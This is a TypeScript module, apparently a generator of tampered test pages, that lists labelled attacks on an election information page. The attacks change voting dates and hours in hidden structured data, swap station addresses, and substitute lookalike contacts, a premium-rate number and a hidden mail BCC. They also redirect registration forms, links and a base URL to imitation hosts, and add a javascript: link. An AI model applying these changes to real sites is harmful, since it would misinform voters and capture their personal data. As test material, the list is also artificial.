// Changes of facts outside the visible text, of contacts and of destinations.
import { raw, every, below, t, turn, twin, POSTPONED, later } from './attack.ts'
import type { Change } from './attack.ts'
import { iso, pad, esc } from './draw.ts'

/** Replaces within the first script of a type. */
function within(a: { html: string }, open: string, from: string, to: string): void {
  const at = a.html.indexOf(open)
  const end = a.html.indexOf('</script>', at)
  if (at < 0) return
  a.html = a.html.slice(0, at) + a.html.slice(at, end).split(from).join(to) + a.html.slice(end)
}
const LD = '<script type="application/ld+json">'
/** Replaces in every inline script that is no structured data, plain or within a quoted text. */
const inState = (a: { html: string }, from: string, to: string): void => {
  a.html = a.html.replace(/<script(?![^>]*ld\+json)[^>]*>[\s\S]*?<\/script>/g, (m) =>
    m.split(from).join(to).split(from.replace(/"/g, '\\"')).join(to.replace(/"/g, '\\"')),
  )
}

export const ATTACKS_B: Change[] = [
  // [ld-end] The end of the vote in the structured data, three hours earlier.
  {
    id: 'ld-end',
    class: 'fact-hidden',
    do: (a, s) =>
      within(
        a,
        LD,
        `${iso(s.election)}T${pad(s.close)}:00`,
        `${iso(s.election)}T${pad(s.close - 3)}:00`,
      ),
  },
  // [ld-phone] The telephone in the structured data.
  { id: 'ld-phone', class: 'fact-hidden', do: (a, s) => within(a, LD, s.tel, turn(s.tel)) },
  // [ld-date] The day of the vote in the structured data.
  {
    id: 'ld-date',
    class: 'fact-hidden',
    do: (a, s) => within(a, LD, iso(s.election) + 'T', iso(s.election + 1) + 'T'),
  },
  // [ld-postponed] The structured data call the vote postponed.
  {
    id: 'ld-postponed',
    class: 'fact-hidden',
    do: (a) => within(a, LD, 'EventScheduled', 'EventPostponed'),
  },
  // [state-close] The closing hour in the state the page is drawn from.
  {
    id: 'state-close',
    class: 'fact-hidden',
    do: (a, s) => inState(a, `"closes":"${pad(s.close)}:00"`, `"closes":"${pad(s.close - 2)}:00"`),
  },
  // [state-api] The host of the programming interface in the state.
  {
    id: 'state-api',
    class: 'fact-hidden',
    do: (a, s) => inState(a, s.origin + '/api', `https://api.${twin(s)}/api`),
  },
  // [state-stations] Two station addresses exchanged in the state.
  {
    id: 'state-stations',
    class: 'fact-hidden',
    do: (a, s) => {
      const [x, y] = [s.stations[0]!.addr, s.stations[1]!.addr].map((v) => `"address":"${v}"`)
      inState(a, x!, '"address":"\u0000"')
      inState(a, y!, x!)
      inState(a, '"address":"\u0000"', y!)
    },
  },
  // [geo-exchanged] Coordinates in data attributes exchanged between two stations.
  {
    id: 'geo-exchanged',
    class: 'fact-hidden',
    do: (a, s) => {
      const g = (i: number) => `data-lat="${s.stations[i]!.lat}" data-lon="${s.stations[i]!.lon}"`
      if (a.html.includes(g(0))) {
        every(a, g(0), '\u0000')
        every(a, g(1), g(0))
        every(a, '\u0000', g(1))
      }
    },
  },
  // [description-date] The description for search engines names another day.
  {
    id: 'description-date',
    class: 'fact-hidden',
    do: (a, s) =>
      raw(
        a,
        /<meta name="description" content="[^"]*">/,
        `<meta name="description" content="${esc(s.L.hours(s.L.span(s.open, s.close), later(s, 1)))}">`,
      ),
  },
  // [title-postponed] The title in the tab.
  {
    id: 'title-postponed',
    class: 'fact-hidden',
    do: (a, s) => raw(a, '</title>', ` – ${t(s, POSTPONED)}</title>`),
  },
  // [hreflang-host] The other languages at another host.
  {
    id: 'hreflang-host',
    class: 'fact-hidden',
    do: (a, s) =>
      every(
        a,
        `hreflang="${s.lang === 'en' ? 'fr' : 'en'}" href="${s.origin}`,
        `hreflang="${s.lang === 'en' ? 'fr' : 'en'}" href="https://${twin(s)}`,
      ),
  },
  // [alt-text] Another address in the text for the blind.
  {
    id: 'alt-text',
    class: 'fact-hidden',
    do: (a, s) =>
      every(
        a,
        `alt="${esc(s.stations[0]!.name + ', ' + s.stations[0]!.addr)}"`,
        `alt="${esc(s.stations[0]!.name + ', ' + s.stations[1]!.addr)}"`,
      ),
  },
  // [og-url] The address that social networks keep.
  {
    id: 'og-url',
    class: 'fact-hidden',
    do: (a, s) =>
      raw(
        a,
        `property="og:url" content="${s.origin}`,
        `property="og:url" content="https://${twin(s)}`,
      ),
  },
  // [ld-office] The office closes at noon in the structured data.
  {
    id: 'ld-office',
    class: 'fact-hidden',
    do: (a, s) => within(a, LD, `"closes":"${pad(s.officeTo)}:00"`, '"closes":"12:00"'),
  },
  // [whatsapp-number] The WhatsApp account of somebody else.
  {
    id: 'whatsapp-number',
    class: 'contact',
    do: (a, s) => every(a, 'wa.me/' + s.wa, 'wa.me/' + turn(s.wa)),
  },
  // [telegram-account] A Telegram channel with a similar name.
  {
    id: 'telegram-account',
    class: 'contact',
    do: (a, s) => every(a, 't.me/' + s.tg, 't.me/' + s.tg.replace('_vote', '_votes')),
  },
  // [mailto-target] The mail goes elsewhere than written.
  {
    id: 'mailto-target',
    class: 'contact',
    do: (a, s) => every(a, 'mailto:' + s.mail, 'mailto:' + s.mail.replace('@vote-', '@vote')),
  },
  // [mailto-bcc] A blind copy of every mail.
  {
    id: 'mailto-bcc',
    class: 'contact',
    do: (a, s) =>
      every(a, `mailto:${s.mail}"`, `mailto:${s.mail}?bcc=office.vote${s.n}@mail.example"`),
  },
  // [map-station] The map of one station shows another place.
  {
    id: 'map-station',
    class: 'contact',
    do: (a, s) =>
      every(
        a,
        `?q=${s.stations[1]!.lat},${s.stations[1]!.lon}`,
        `?q=${s.stations[1]!.lat},${(+s.stations[1]!.lon - 0.02).toFixed(5)}`,
      ),
  },
  // [qr-picture] Another picture for the telephone camera.
  {
    id: 'qr-picture',
    class: 'contact',
    do: (a, s) => every(a, `/media/qr-${s.n}.png`, `/media/uploads/qr-${s.n}-2.png`),
  },
  // [callback-number] A sentence with a number of high cost.
  {
    id: 'callback-number',
    class: 'contact',
    do: (a, s) =>
      below(
        a,
        `<p>${t(s, { en: 'Questions? Call 0900 555 010.', fr: 'Des questions ? Appelez le 0900 555 010.', es: '¿Preguntas? Llame al 0900 555 010.', pt: 'Dúvidas? Ligue 0900 555 010.', de: 'Fragen? Rufen Sie 0900 555 010 an.', ru: 'Вопросы? Звоните 0900 555 010.', ar: 'أسئلة؟ اتصلوا بالرقم 0900 555 010.', zh: '有疑问?请拨打0900 555 010。' })}</p>`,
      ),
  },

  // [form-host] The form sends to another host.
  {
    id: 'form-host',
    class: 'destination',
    do: (a, s) => every(a, 'action="/register/', `action="https://${twin(s)}/register/`),
  },
  // [form-get] The form shows what it sends.
  { id: 'form-get', class: 'destination', do: (a) => raw(a, / method="post">/, ' method="get">') },
  // [form-next] The page that follows after sending.
  {
    id: 'form-next',
    class: 'destination',
    do: (a, s) =>
      every(a, 'name="next" value="/register/thanks"', `name="next" value="//${twin(s)}/thanks"`),
  },
  // [register-link] The link about registering leads to an imitation.
  {
    id: 'register-link',
    class: 'destination',
    do: (a, s) => every(a, 'href="/register"', `href="https://register-vote-${s.n}.example/"`),
  },
  // [provider-form] A form of a well-known provider.
  {
    id: 'provider-form',
    class: 'destination',
    do: (a, s) =>
      below(
        a,
        `<p><a href="https://docs.google.com/forms/d/e/1FAIpQLSd${s.yt}/viewform">${s.L.ui['reg']}</a></p>`,
      ),
  },
  // [base-address] Every relative link leads to another host.
  {
    id: 'base-address',
    class: 'destination',
    do: (a, s) =>
      raw(a, '<meta charset="utf-8">', `<meta charset="utf-8">\n<base href="https://${twin(s)}/">`),
  },
  // [results-link] The link to the results leads elsewhere.
  {
    id: 'results-link',
    class: 'destination',
    do: (a, s) => every(a, 'href="/results"', `href="https://results.${twin(s)}/"`),
  },
  // [guide-file] The brochure comes from another host.
  {
    id: 'guide-file',
    class: 'destination',
    do: (a, s) =>
      every(
        a,
        `href="/media/guide-${s.n}.pdf"`,
        `href="https://files-vote.example/guide-${s.n}.pdf"`,
      ),
  },
  // [user-info] A link that looks like the site's own and is not.
  {
    id: 'user-info',
    class: 'destination',
    do: (a, s) => every(a, 'href="/where"', `href="https://${s.host}@where.example/"`),
  },
  // [search-host] The search box sends to another host.
  {
    id: 'search-host',
    class: 'destination',
    do: (a, s) => raw(a, 'action="/search"', `action="https://find.${twin(s)}/search"`),
  },
  // [privacy-link] The link about privacy runs script.
  {
    id: 'privacy-link',
    class: 'destination',
    do: (a, s) => every(a, 'href="/privacy"', `href="javascript:location='https://${twin(s)}'"`),
  },
]
